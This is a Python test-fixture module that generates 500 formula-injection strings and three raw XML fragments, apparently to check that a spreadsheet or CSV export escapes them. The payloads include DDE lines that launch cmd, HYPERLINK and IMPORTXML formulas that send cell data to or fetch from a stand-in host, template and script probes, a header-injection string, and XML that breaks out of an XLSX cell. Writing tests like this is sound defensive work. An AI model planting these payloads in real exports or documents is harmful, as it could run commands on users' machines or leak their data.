"""Five hundred texts that a careless export would turn into formulas, cells or headers (security.md T33)."""

from __future__ import annotations

from itertools import product

FIRST = (
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    "\0",
    "＝",
    "＋",
    "－",
    "＠",
    " =",
    "\t=",
    "\r\n=",
    "'=",
    '"=',
    ",=",
    ";=",
    "",
)
THEN = (
    "1+1", "cmd|' /C calc'!A0", "cmd|'/c calc'!A1", 'HYPERLINK("http://example.invalid/?x="&A1,"Click")',
    'IMPORTXML("http://example.invalid","//a")', "SUM(A1:A9)*cmd|' /C calc'!A0", 'DDE("cmd";"/C calc";"x")',
    "2+5+cmd|' /C calc'!A0", '"a","b"\r\n"=1+1"', "A1", "{{7*7}}", "${7*7}", "<script>alert(1)</script>",
    "<f>1+1</f>", "]]><f>1+1</f>", "_x003D_1+1", "\x01\x02\x0b\x1f1", "naïve ‘quotes’ 👍",
    "Oak House\r\nSet-Cookie: a=b", "mailto:a@b.example", "1" * 400, "=" * 40, "&C&P", "\ufeff=1+1", "\u200b=1+1",
)  # fmt: skip
PAYLOADS = [first + then for first, then in product(FIRST, THEN)]

RAW_XML = [
    '<r><t>x</t></r></is></c><c r="A9"><f>1+1</f><v>2</v></c><c t="inlineStr"><is><r><t>y</t></r>',
    "<r><t>=1+1</t></r>",
    "<r></r>",
]
"""XlsxWriter writes text of this shape as it stands: it must not get there as such."""
